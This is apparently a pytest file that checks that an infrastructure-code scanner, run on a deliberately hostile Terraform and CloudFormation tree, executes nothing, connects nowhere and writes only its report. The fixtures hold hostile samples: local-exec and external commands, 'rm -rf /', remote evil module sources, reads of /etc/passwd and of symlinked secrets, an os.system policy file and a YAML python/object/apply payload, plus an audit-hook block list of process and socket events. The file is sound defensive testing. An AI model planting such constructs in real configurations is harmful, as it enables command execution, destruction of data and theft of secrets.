"""Safety (issue 8, part 4): whatever the scanned tree contains, a scan never runs a program,
never opens a network connection and never writes outside the output file and the cache.

The scan runs in a subprocess whose audit hook (sys.addaudithook) records and refuses process
creation, name resolution and connections, and any write (open for writing, mkdir, rename,
remove, ...) outside the allowed paths; the test asserts that nothing was recorded and that
the scan completed.
"""
from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

from checker.values import is_unknown

REPO = Path(__file__).resolve().parents[1]

BOOTSTRAP = r"""
import json, os, sys
allowed = [os.path.realpath(p) for p in json.loads(sys.argv[1])]
args = json.loads(sys.argv[2])
events = []
REFUSED = ("subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "os.spawn", "os.startfile",
           "socket.connect", "socket.getaddrinfo", "socket.gethostbyname", "socket.gethostbyaddr",
           "socket.sendto", "socket.bind", "urllib.Request", "http.client.connect", "ftplib.connect",
           "smtplib.connect", "pty.spawn", "ctypes.dlopen")
WRITES = ("os.mkdir", "os.rename", "os.remove", "os.rmdir", "os.symlink", "os.link", "os.chmod",
          "os.chown", "os.truncate", "os.utime", "shutil.rmtree", "shutil.copyfile", "shutil.move")

def _inside(path):
    try:
        real = os.path.realpath(os.fsdecode(path))
    except (TypeError, ValueError):
        return False
    return any(real == a or real.startswith(a.rstrip(os.sep) + os.sep) for a in allowed)

def hook(event, argv):
    bad = None
    if event.startswith(REFUSED):
        bad = (event, repr(argv)[:200])
    elif event == "open" and argv and isinstance(argv[0], (str, bytes, os.PathLike)):
        path, mode, flags = (list(argv) + [None, None])[:3]
        writing = (isinstance(mode, str) and any(c in mode for c in "wax+")) or (
            isinstance(flags, int) and flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC | os.O_APPEND))
        if writing and not _inside(path):
            bad = (event, repr(argv)[:200])
    elif event in WRITES and argv and isinstance(argv[0], (str, bytes, os.PathLike)):
        targets = [a for a in argv[:2] if isinstance(a, (str, bytes, os.PathLike))]
        if not all(_inside(t) for t in targets):
            bad = (event, repr(argv)[:200])
    if bad:
        events.append(bad)
        raise PermissionError(f"refused by the safety test: {bad[0]}")

sys.addaudithook(hook)
code = 0
try:
    from checker.cli import main
    main(args, standalone_mode=True)
except SystemExit as exc:
    code = exc.code if isinstance(exc.code, int) else 1
finally:
    sys.stderr.write("\nAUDIT " + json.dumps({"events": events, "code": code}) + "\n")
"""


def _hostile_tree(tmp_path: Path) -> Path:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("top secret\n")
    (outside / "outside.tpl").write_text("${x}\n")
    (outside / "evil.tf").write_text('resource "aws_s3_bucket" "linked" {\n  bucket = "linked"\n}\n')
    root = tmp_path / "repo" / "infra"
    root.mkdir(parents=True)
    (root / "main.tf").write_text(r'''
module "git" {
  source = "git::https://example.com/evil.git?ref=v1"
}
module "http" {
  source = "https://example.com/evil.zip"
}
module "registry" {
  source  = "hashicorp/consul/aws"
  version = "0.1.0"
}
module "s3" {
  source = "s3::https://s3.amazonaws.com/bucket/evil.zip"
}
module "outside" {
  source = "../../outside"
}
resource "null_resource" "pwn" {
  provisioner "local-exec" {
    command = "touch /tmp/pdguard-pwned; curl https://example.com"
  }
  provisioner "remote-exec" {
    inline = ["rm -rf /"]
  }
}
data "external" "pwn" {
  program = ["sh", "-c", "touch /tmp/pdguard-pwned"]
}
data "http" "pwn" {
  url = "https://example.com/"
}
locals {
  passwd   = file("/etc/passwd")
  up       = file("../../outside/secret.txt")
  linked   = file("link_out.txt")
  template = templatefile("${path.module}/../../outside/outside.tpl", { x = "y" })
  set      = fileset("/etc", "*")
  hashed   = filemd5("/etc/passwd")
}
resource "aws_s3_bucket" "b" {
  bucket = local.passwd
  tags = {
    up       = local.up
    linked   = local.linked
    template = local.template
    hashed   = local.hashed
  }
}
''')
    (root / "link_out.txt").symlink_to(outside / "secret.txt")
    (root / "linked.tf").symlink_to(outside / "evil.tf")
    (root / "outside_dir").symlink_to(outside, target_is_directory=True)
    (root / "etc").symlink_to("/etc", target_is_directory=True)
    modules = root / ".terraform" / "modules"
    modules.mkdir(parents=True)
    (modules / "modules.json").write_text(json.dumps({"Modules": [
        {"Key": "git", "Source": "git::https://example.com/evil.git", "Dir": "../../etc"},
        {"Key": "http", "Source": "https://example.com/evil.zip", "Dir": "/etc"},
        {"Key": "", "Source": "", "Dir": "."}]}))
    # A configuration file in the scanned tree naming a policy folder with Python code.
    policy = tmp_path / "repo" / "evil-policies" / "PDG999"
    policy.mkdir(parents=True)
    (policy / "check.py").write_text("import os\nos.system('touch /tmp/pdguard-pwned')\n"
                                     "def check(resource, graph):\n    return None\n")
    (tmp_path / "repo" / ".git").mkdir()
    (tmp_path / "repo" / ".pdguard.yaml").write_text("policy_dirs: [evil-policies]\n")
    # CloudFormation with a Python tag, and a plan JSON that names commands.
    (root / "template.yaml").write_text(
        "AWSTemplateFormatVersion: '2010-09-09'\nResources:\n  B:\n    Type: AWS::S3::Bucket\n"
        "    Properties:\n      BucketName: !!python/object/apply:os.system ['touch /tmp/pdguard-pwned']\n")
    return root


def _run(tmp_path: Path, args: list, allowed: list) -> tuple:
    env = dict(os.environ)
    env["PDGUARD_CACHE_DIR"] = str(tmp_path / "cache")
    env.pop("PDGUARD_DEBUG", None)
    proc = subprocess.run([sys.executable, "-c", BOOTSTRAP, json.dumps([str(a) for a in allowed]),
                           json.dumps([str(a) for a in args])],
                          cwd=tmp_path, env=env, capture_output=True, text=True, timeout=180)
    marker = proc.stderr.rfind("\nAUDIT ")
    assert marker >= 0, proc.stderr[-3000:]
    audit = json.loads(proc.stderr[marker + len("\nAUDIT "):].splitlines()[0])
    return audit, proc


def test_scan_of_a_hostile_tree_runs_nothing_connects_nowhere_writes_only_allowed(tmp_path):
    root = _hostile_tree(tmp_path)
    output = tmp_path / "out" / "report.json"
    output.parent.mkdir()
    audit, proc = _run(tmp_path, ["scan", str(root), "--format", "json", "-o", str(output)],
                       [output, tmp_path / "cache"])
    assert audit["events"] == [], audit["events"]
    assert "Traceback" not in proc.stderr
    # The scan completed: refused the policy code (exit 2) and said why, or reported.
    assert audit["code"] in (0, 1, 2)
    assert "check.py" in proc.stderr or output.is_file()
    assert not Path("/tmp/pdguard-pwned").exists()


def test_scan_with_trusted_config_elsewhere_reports(tmp_path):
    """The same tree, its configuration file left out: the scan reports findings and still
    runs nothing, connects nowhere, writes only the report and the cache."""
    root = _hostile_tree(tmp_path)
    (tmp_path / "repo" / ".pdguard.yaml").unlink()
    output = tmp_path / "report.sarif"
    audit, proc = _run(tmp_path, ["scan", str(root), "--format", "sarif", "-o", str(output)],
                       [output, tmp_path / "cache"])
    assert audit["events"] == [], audit["events"]
    assert "Traceback" not in proc.stderr
    assert audit["code"] in (0, 1, 2)
    assert output.is_file() and json.loads(output.read_text())["runs"]


def test_audit_hook_does_catch_a_forbidden_write(tmp_path):
    """The harness itself: a report written where it is not allowed is caught."""
    root = tmp_path / "tf"
    root.mkdir()
    (root / "main.tf").write_text('resource "aws_s3_bucket" "b" {}\n')
    audit, _proc = _run(tmp_path, ["scan", str(root), "-o", str(tmp_path / "elsewhere.txt")],
                        [tmp_path / "cache"])
    assert any(e[0] == "open" and "elsewhere.txt" in e[1] for e in audit["events"])


def test_files_outside_the_tree_stay_unknown(tmp_path, monkeypatch):
    from checker.api import load
    from checker.config import ScanConfig
    monkeypatch.setenv("PDGUARD_CACHE_DIR", "off")
    root = _hostile_tree(tmp_path)
    (tmp_path / "repo" / ".pdguard.yaml").unlink()
    loaded = load([root], ScanConfig())
    bucket = next(r for r in loaded.graph if r.address == "aws_s3_bucket.b")
    attributes = bucket.raw.attributes
    assert is_unknown(attributes["bucket"])
    for name in ("up", "linked", "template", "hashed"):
        value = attributes["tags"][name] if not is_unknown(attributes["tags"]) else attributes["tags"]
        assert is_unknown(value), (name, value)
    # Nothing from outside the tree leaks into a resource: no module outside was evaluated.
    assert not any("top secret" in json.dumps(r.raw.attributes, default=str) for r in loaded.graph)
    assert not any(r.address.startswith(("module.git.", "module.http.")) for r in loaded.graph)
